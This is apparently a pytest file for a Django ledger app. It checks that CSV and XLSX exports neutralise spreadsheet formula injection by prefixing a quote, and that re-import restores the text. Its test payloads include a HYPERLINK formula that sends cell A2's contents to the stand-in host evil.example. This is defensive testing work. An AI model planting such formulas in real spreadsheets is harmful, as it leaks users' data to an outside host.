"""Formula injection (finding 10): text from the public form or a register that a spreadsheet would run as a
formula is neutralised in every exported csv and xlsx cell (prefixed with a single quote), and an import of
such an export reads the text back as it was."""
from __future__ import annotations

import csv

import openpyxl
import pytest

from pingan import ledgers
from pingan.ledgers.writers import neutralise
from pingan.events import services as event_services
from pingan.events.choices import Source
from pingan.events.testing import make_categories
from pingan.hazards.models import Hazard
from pingan.hazards.testing import make_hazard
from pingan.people.testing import make_person

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"点击查看")'
PAYLOADS = [HYPERLINK, "@SUM(1)", "+1", "-1"]


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"), ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"), ("固庄村-东街", "固庄村-东街"), ("", ""), (-1, -1), (None, None),
])
def test_neutralise_prefixes_only_text_that_starts_like_a_formula(text, written):
    assert neutralise(text) == written


@pytest.fixture
def citizen_events(world):
    cats = make_categories(world)
    for i, payload in enumerate(PAYLOADS):
        event_services.event_report(actor=None, category=cats["garbage"], description=payload,
                                    address="河底镇固庄村河边", source=Source.PUBLIC,
                                    attributes={"kind": "living"}, reporter_name=PAYLOADS[-1 - i],
                                    reporter_phone="13912345678")


def exported(kind, user, tmp_path, fmt):
    path = tmp_path / f"{kind}.{fmt}"
    ledgers.export_ledger(ledgers.get(kind), str(path), user=user, fmt=fmt)
    if fmt == "csv":
        with open(path, encoding="utf-8-sig", newline="") as handle:
            return list(csv.DictReader(handle))
    sheet = openpyxl.load_workbook(path).active
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row)) for row in values[1:]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_event_descriptions_and_citizens_names_are_exported_as_text(world, citizen_events, tmp_path, fmt):
    rows = exported("events", world.users["center_staff"], tmp_path, fmt)
    assert sorted(r["事件描述"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert sorted(r["报告人"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    if fmt == "xlsx":
        book = openpyxl.load_workbook(tmp_path / "events.xlsx")
        cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
        assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_peoples_names_are_exported_as_text(world, tmp_path, fmt):
    for payload in PAYLOADS:
        make_person(world, "a", name=payload[:50])
    rows = exported("people", world.users["township_a"], tmp_path, fmt)
    assert sorted(r["姓名"] for r in rows) == sorted("'" + p[:50] for p in PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_neutralised_cells_imports_back_unchanged(world, tmp_path, fmt):
    make_hazard(world, "a", description="=1+1 柴草堆放")
    path = tmp_path / f"h.{fmt}"
    ledgers.export_ledger(ledgers.get("hazards"), str(path), user=world.users["district_admin"], fmt=fmt)
    result = ledgers.import_ledger(ledgers.get("hazards"), str(path), user=world.users["district_admin"])
    assert result.ok and result.unchanged == 1 and result.updated == 0, [str(p) for p in result.problems]
    assert Hazard.objects.get().description == "=1+1 柴草堆放"
